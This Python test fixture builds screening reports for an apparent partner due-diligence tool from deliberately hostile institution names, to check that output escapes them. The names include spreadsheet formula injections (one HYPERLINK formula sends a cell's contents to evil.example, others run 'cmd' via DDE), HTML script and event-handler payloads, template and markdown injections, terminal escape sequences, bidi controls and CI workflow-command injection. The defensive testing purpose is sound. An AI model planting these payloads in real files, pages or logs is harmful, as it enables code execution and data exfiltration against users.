"""Names that try to break out of whatever they are written into, and reports made of them."""

from __future__ import annotations

from duediligence.model import (
    DecisionMark,
    Identification,
    Level,
    Partner,
    Reason,
    Report,
    Result,
    Skipped,
    Source,
    Status,
    Verdict,
)
from samples import known_result, listed_result, sample_report

NAMES = (
    '=HYPERLINK("https://evil.example/?"&A1,"University")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r\n=1+1",
    "＝1+1",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</style></title><svg onload=alert(1)>",
    "{{ 7*7 }}{% raw %}",
    "[click](javascript:alert(1)) ![x](https://evil.example/x.png)",
    "**bold** _em_ `code` ~~del~~ | cell | # head",
    "https://evil.example/ www.evil.example @someone #123 $x^2$",
    "[/red][bold]markup[/bold]",
    "\x1b[31mred\x1b[0m \x9b31m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "left\u202eright\u202c \u2066isolate\u2069",
    "nul\x00 bell\x07 back\x08 del\x7f c1\x85\x90",
    "]]> <!-- --> <?php ?> <![CDATA[ & &amp; &#0; \ufffe\uffff",
    "::error file=x,line=1::injected\n::warning::second %0A::notice::third",
    "دانشگاه تهران \u200f(Tehran)",
    "北京航空航天大学 𝒳",
)


def result(name: str, row: int) -> Result:
    """A finding about a hostile name, the name in every text that may repeat it."""
    return Result(
        partner=Partner(
            name=name,
            country="CN",
            source=Source(file="partners.csv", row=row, line=row),
            columns={"faculty": name, "=cmd": "1"},
        ),
        identification=Identification(
            status=Status.NOT_IDENTIFIED, explanation=f"Nothing known is called {name}."
        ),
        verdict=Verdict(
            level=Level.REVIEW,
            reasons=(Reason(rule="country", level=Level.REVIEW, text=f"{name} is in a country of concern."),),
        ),
    )


def report() -> Report:
    """A report of every hostile name, with a listed, a decided and a skipped partner beside them."""
    decided = listed_result().model_copy(
        update={
            "decision": DecisionMark(
                institution="beihang-university",
                decision="accepted-risk",
                reason="Language exchange only | reviewed",
                by="R. Officer",
                expires="2027-06-30",
            )
        }
    )
    results = [decided, known_result(), *(result(name, row) for row, name in enumerate(NAMES, 10))]
    skipped = tuple(
        Skipped(source=Source(file="partners.csv", row=row), reason=f"no name but {name}", name=name)
        for row, name in enumerate(NAMES[:4], 50)
    )
    made = sample_report(*results, skipped=skipped)
    return made.model_copy(update={"warnings": (f"a warning about {NAMES[7]}",)})
